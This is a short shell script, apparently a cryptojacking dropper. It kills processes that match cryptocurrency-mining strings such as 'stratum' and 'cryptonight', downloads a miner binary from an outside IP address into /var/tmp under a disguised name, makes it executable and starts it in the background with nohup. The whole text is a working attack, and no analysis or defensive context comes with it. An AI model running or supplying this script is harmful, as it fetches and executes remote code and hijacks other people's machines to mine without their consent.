ps auxf | grep -v grep | grep "stratum" | awk '{print $2}' | xargs kill -9
ps auxf | grep -v grep | grep "cryptonight" | awk '{print $2}' | xargs kill -9
ps auxf | grep -v grep | grep "\-p x" | awk '{print $2}' | xargs kill -9
curl -s http://198.51.100.4:8220/minerd -o /var/tmp/jaav
chmod 777 /var/tmp/jaav
nohup /var/tmp/jaav -c /var/tmp/config.json -t 2 &
